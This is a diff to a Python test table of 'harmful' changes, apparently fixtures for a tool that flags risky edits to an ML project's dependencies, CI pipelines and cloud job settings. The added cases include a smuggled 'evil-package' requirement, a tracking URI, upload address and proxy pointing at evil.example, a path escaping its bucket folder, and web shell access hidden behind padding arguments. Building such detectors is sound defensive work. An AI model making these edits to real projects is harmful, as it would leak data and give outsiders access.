@@ -176,6 +176,12 @@ HARMFUL: Final = (
     _harmful(
         "other-language-of-the-project", edit("Pulumi.yaml", ("name: python", "name: nodejs")), "`runtime", status=3
     ),
+    _harmful(
+        "requirements-included-in-another-form",
+        write("deps/one.txt", "evil-package\n"),
+        "`deps/one.txt`",
+        base=together(write("requirements.txt", "--req \\\n  'deps/one.txt'\n"), write("deps/one.txt", "pulumi\n")),
+    ),
     # Workflows.
     _harmful(
         "quoted-permission",
@@ -204,6 +210,8 @@ HARMFUL: Final = (
     ),
     _harmful("gitlab-pipeline", write(".gitlab-ci.yml", "x: {script: [./x]}\n"), "`.gitlab-ci.yml`"),
     _harmful("circle-pipeline", write(".circleci/config.yml", "version: 2\n"), "`.circleci/config.yml`"),
+    _harmful("pipeline-of-another-service", write(".teamcity/settings.kts", "x\n"), "`.teamcity/settings.kts`"),
+    _harmful("action-in-another-folder", write("tools/x/action.yml", "runs: {using: node20}\n"), "`tools/x/action.yml`"),
     _harmful("jenkins-pipeline", write("Jenkinsfile", "node { sh './x' }\n"), "`Jenkinsfile`"),
     # Jobs.
     _harmful(
@@ -241,6 +249,21 @@ HARMFUL: Final = (
         "dump-to-another-bucket-by-xla-flags",
         spec((_MODEL_DIR, f"{_MODEL_DIR}  xla_flags: {{v2: [--xla_dump_to=gs://theirs/dump]}}\n")),
         "`gs://theirs`",
+    ),
+    _harmful("host-without-a-scheme", variables(MLFLOW_TRACKING_URI="evil.example:5000"), "`evil.example:5000`"),
+    _harmful("cache-beside-the-bucket", _argument("cache: ${bucket}/../theirs"), "leads out of its folder"),
+    _harmful(
+        "bucket-renamed",
+        spec(("  prod:\n", "    bucket: theirs\n  prod:\n")),
+        "bucket changed from `my-project-dev-mnist-dev-us-central1` to `theirs`",
+    ),
+    _harmful(
+        "access-behind-many-arguments",
+        together(
+            spec((_ARGS, _ARGS + "".join(f"    a{n}: gs://b{n}/{'x' * 900}\n" for n in range(150)))),
+            options("vertex-ai", extra={"enableWebAccess": True}),
+        ),
+        "people can open a shell in the running job",
     ),
     _harmful("address-of-another-host", _argument("upload: https://evil.example/x"), "evil.example"),
     _harmful("metrics-through-another-proxy", variables(ALL_PROXY="socks5://evil.example:1080"), "`ALL_PROXY`"),
